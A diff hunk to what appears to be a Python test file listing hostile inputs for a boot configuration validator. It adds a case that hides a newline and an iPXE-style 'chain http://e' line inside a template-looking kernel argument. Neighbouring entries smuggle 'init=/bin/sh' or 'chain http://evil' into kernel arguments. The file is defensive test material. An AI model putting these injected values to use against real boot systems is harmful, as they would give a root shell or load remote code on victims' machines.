@@ -51,6 +51,9 @@ HOSTILE: dict[str, Change] = {
     "a line that does not end": lambda d: d.update(summary="x" * 100000),
     "two kernel arguments in one": lambda d: d.update(kernel_args=["a init=/bin/sh"]),
     "a script in a kernel argument": lambda d: d.update(kernel_args=["a\nchain http://evil"]),
+    "a script that looks like a template": lambda d: d.update(
+        kernel_args=["{{ a }}\nchain http://e"]
+    ),
     "a script in a template": lambda d: d.update(kernel_args=["{{ a }}\nchain http://evil"]),
     "another format": lambda d: d.update(format=2),
     "a list": lambda d: [d],
